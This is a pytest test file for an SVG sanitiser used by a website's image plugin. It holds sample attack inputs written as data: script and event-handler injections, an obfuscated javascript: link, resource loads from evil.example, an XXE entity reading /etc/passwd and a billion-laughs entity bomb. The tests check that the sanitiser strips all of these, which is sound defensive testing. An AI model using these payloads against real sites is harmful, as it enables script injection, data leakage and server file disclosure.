"""Drawings: what stays, what goes, and how large they are."""

from __future__ import annotations

import base64
import io
import re
from pathlib import Path

import pytest
import resvg_py
from PIL import Image, ImageChops

from plugins.images.model import Rejection
from plugins.images.svg import sanitised, size
from tests.conftest import ROOT
from tests.images.samples import SECRET, jpeg, photograph, reopened

OPEN = '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 90 60">'
DRAWINGS = sorted((ROOT / "content/images").glob("*.svg"))

RICH = f"""{OPEN}<title>L'été &amp; la pluie</title><desc>Un carré</desc>
<style>.sun {{ fill: #e3b56b }} @media (prefers-color-scheme: dark) {{ .sun {{ fill: #fff }} }}</style>
<defs><linearGradient id="g"><stop offset="0" stop-color="#123"/><stop offset="1" stop-color="#fed"/></linearGradient>
<clipPath id="c"><circle cx="45" cy="30" r="25"/></clipPath>
<mask id="m"><rect width="90" height="60" fill="#fff"/></mask>
<pattern id="p" width="9" height="9" patternUnits="userSpaceOnUse"><circle cx="4" cy="4" r="3"/></pattern>
<filter id="f"><feGaussianBlur stdDeviation="1"/></filter><symbol id="s"><rect width="9" height="9"/></symbol></defs>
<rect width="90" height="60" fill="url(#g)" clip-path="url(#c)"/><rect class="sun" width="20" height="20"/>
<g mask="url(#m)" filter="url(#f)" opacity=".8" transform="rotate(9)">
<rect x="40" width="20" height="20" fill="url(#p)"/></g>
<use href="#s" x="70" y="40"/><path d="M5 55Q20 30 40 50" fill="none" stroke="#3a322a" stroke-dasharray="4 2"/></svg>"""


def clean(text: str | bytes) -> str:
    """Return a drawing as it is published."""
    done = sanitised(text if isinstance(text, bytes) else text.encode())
    assert isinstance(done, bytes)
    return done.decode()


def seen(svg: str) -> Image.Image:
    """Return what a drawing looks like."""
    return reopened(bytes(resvg_py.svg_to_bytes(svg_string=svg))).convert("RGBA")


@pytest.mark.parametrize("file", DRAWINGS, ids=lambda file: file.stem)
def test_the_sites_drawings_keep_their_looks(file: Path) -> None:
    """Each drawing of this site is published with its title, and the same to the pixel."""
    text = file.read_text("utf-8")
    done = clean(text)
    assert ImageChops.difference(seen(text), seen(done)).getbbox() is None
    assert re.findall(r"<title>.*</title>", done) == re.findall(r"<title>.*</title>", text)
    assert "<!--" not in done


def test_what_draws_stays() -> None:
    """Gradients, clips, masks, patterns, filters, symbols and style sheets stay, and title and description."""
    done = clean(RICH)
    assert ImageChops.difference(seen(RICH), seen(done)).getbbox() is None
    for kept in (
        "L'été &amp; la pluie</title>",
        "<desc>Un carré</desc>",
        "@media (prefers-color-scheme: dark)",
        "<mask id",
    ):
        assert kept in done
    assert sanitised(done.encode()) == done.encode()


HOSTILE = {
    "a script": "<script>SECRET</script>",
    "a foreign script": '<script href="https://evil.example/SECRET"/>',
    "an event": '<rect onload="SECRET" onclick="SECRET" width="1" height="1"/>',
    "a foreign document": '<foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" src="SECRET"/></foreignObject>',
    "a running link": '<a href="javascript:SECRET"><text>t</text></a>',
    "a spelt running link": '<a xlink:href="java&#10;script:SECRET"><text>t</text></a>',
    "a foreign picture": '<image href="https://evil.example/SECRET.png" width="1" height="1"/>',
    "a foreign use": '<use xlink:href="https://evil.example/SECRET.svg#a"/>',
    "a drawing as data": '<image href="data:image/svg+xml;base64,PHN2Zz5TRUNSRVQ8L3N2Zz4="/>',
    "a page as data": '<image href="data:text/html,SECRET"/>',
    "a style that asks": "<style>@import url(//evil.example/SECRET.css);a{fill:url(//evil.example/SECRET)}</style>",
    "an attribute that asks": '<rect style="fill:url(https://evil.example/SECRET)" fill="url(https://evil.example/SECRET)"/>',
    "a moving link": '<a><animate attributeName="href" values="javascript:SECRET"/><text>t</text></a>',
    "a comment": "<!-- SECRET -->",
    "metadata": "<metadata><rdf>SECRET</rdf></metadata>",
    "an editor's words": '<g xmlns:i="http://www.inkscape.org/" i:label="SECRET" i:path="/home/SECRET/x.svg"/>',
    "an instruction": '<?xml-stylesheet href="https://evil.example/SECRET.css"?>',
    "a handler": "<handler>SECRET</handler>",
    "a style sheet of a page": '<link xmlns="http://www.w3.org/1999/xhtml" rel="stylesheet" href="https://evil.example/SECRET"/>',
}


@pytest.mark.parametrize("name", HOSTILE)
def test_what_acts_goes(name: str) -> None:
    """No script, event, foreign document or address of another site is published, nor what an editor wrote down."""
    done = clean(f"{OPEN}{HOSTILE[name]}<rect id='stays' width='9' height='9'/></svg>")
    assert 'id="stays"' in done
    bare = done.replace("http://www.w3.org/2000/svg", "")
    asked = re.findall(r"(?:url\(|href=.|src=.|@import)\s*['\"]?\s*(?:[a-z]+:|//)[^)'\"]*", bare, re.IGNORECASE)
    assert asked == []
    assert "javascript:SECRET" not in re.sub(r"values=\"[^\"]*\"", "", bare)
    assert re.search(r"<(?:script|foreignObject|iframe|handler|link|metadata)\b|\son\w+=", bare) is None
    if name != "a moving link":  # it moves nothing: what it would move is gone
        assert "SECRET" not in bare


def test_entities_read_no_file() -> None:
    """External entities are not read, and nested ones do not explode (billion laughs)."""
    external = f'<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>{OPEN}<text>&x;</text></svg>'
    assert "root" not in clean(external)
    levels = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
    done = sanitised(f'<!DOCTYPE svg [<!ENTITY l0 "ha">{levels}]>{OPEN}<text>&l9;</text></svg>'.encode())
    assert isinstance(done, Rejection) or len(done) < 100_000


def test_a_photograph_within_a_drawing_is_stripped() -> None:
    """What is embedded loses its metadata and keeps its looks; what cannot be read goes."""
    inner = base64.b64encode(jpeg(quality=95)).decode()
    broken = base64.b64encode(b"\xff\xd8\xff" + SECRET.encode()).decode()
    done = clean(
        f'{OPEN}<image width="90" height="60" href="data:image/jpeg;base64,{inner}"/>'
        f'<image xlink:href="data:image/png;base64,{broken}"/><image href="data:image/png,{SECRET}"/></svg>'
    )
    found = re.findall(r"data:image/(\w+);base64,([^\"]*)", done)
    assert [kind for kind, _ in found] == ["jpeg"]
    data = base64.b64decode(found[0][1])
    assert SECRET.encode() not in data
    assert reopened(data).size == photograph().size
    assert SECRET not in done


@pytest.mark.parametrize(
    "name", ["", "no drawing", "<svg><rect></svg>", OPEN, "<svg xmlns='http://www.w3.org/2000/svg'>\xff"]
)
def test_a_malformed_drawing_is_told(name: str) -> None:
    """What is no well-formed XML is a value with its cause."""
    done = sanitised(name.encode("latin-1"))
    assert isinstance(done, Rejection)
    assert done.problem.text() == "this drawing is not well-formed SVG"


@pytest.mark.parametrize(
    "words",
    [
        "<tspan>ca</tspan><tspan>fé</tspan>",
        "ab<tspan>cd</tspan>ef <tspan>g</tspan><tspan>h</tspan>",
        "<tspan x='1'>a</tspan>\n <tspan x='1' dy='9'>b</tspan>",
    ],
)
def test_no_space_comes_between_words(words: str) -> None:
    """Text in several pieces is set as it was: a space more would be seen."""
    done = clean(f"{OPEN}<text x='3' y='20'>{words}</text></svg>")
    text = re.search(r"<text[^>]*>(.*)</text>", done, re.DOTALL)
    assert text is not None
    plain = [re.sub(r"\s+", " ", re.sub(r"<[^>]*>", "", part)) for part in (words, text[1])]
    assert plain[0] == plain[1]
    assert "\ufdd0" not in done


@pytest.mark.parametrize(("groups", "taken"), [(199, True), (200, False)])
def test_a_drawing_is_no_deeper_than_200_elements(groups: int, taken: bool) -> None:
    """With the drawing's own; one that is deeper is told."""
    done = sanitised((OPEN + "<g>" * groups + "</g>" * groups + "</svg>").encode())
    assert isinstance(done, bytes) is taken


@pytest.mark.parametrize(
    ("attributes", "expected"),
    [
        ('width="960" height="540"', (960, 540)),
        ('width="960px" height="54e1"', (960, 540)),
        ('viewBox="0 0 96 54"', (96, 54)),
        ('viewBox="0,0,96,54" height="27"', (48, 27)),
        ('viewBox="0 0 96 54" width="100%" height="100%"', (96, 54)),
        ('width="1in" height="2.54cm"', (96, 96)),
        ('width="60pt" height="6pc"', (80, 96)),
        ('width="254mm" height="1016q"', (960, 960)),
        ('width="10em" height="20em"', (300, 150)),
        ('viewBox="0 0 0 54"', (300, 150)),
        ('viewBox="none"', (300, 150)),
        ('width="-5" height="1e99"', (300, 16384)),
        ('viewBox="0 0 0.2 0.1"', (1, 1)),
        ("", (300, 150)),
    ],
)
def test_size(attributes: str, expected: tuple[int, int]) -> None:
    """Width and height, else the view box, else what browsers take (SVG 2, section 8; CSS 2.2, section 10.3.2)."""
    assert size(f"<svg {attributes}></svg>") == expected


def test_a_drawing_is_drawn_at_that_size() -> None:
    """The size that is told is the one that a renderer makes of it."""
    for file in DRAWINGS:
        image = Image.open(io.BytesIO(bytes(resvg_py.svg_to_bytes(svg_string=file.read_text("utf-8")))))
        assert image.size == size(clean(file.read_bytes()))
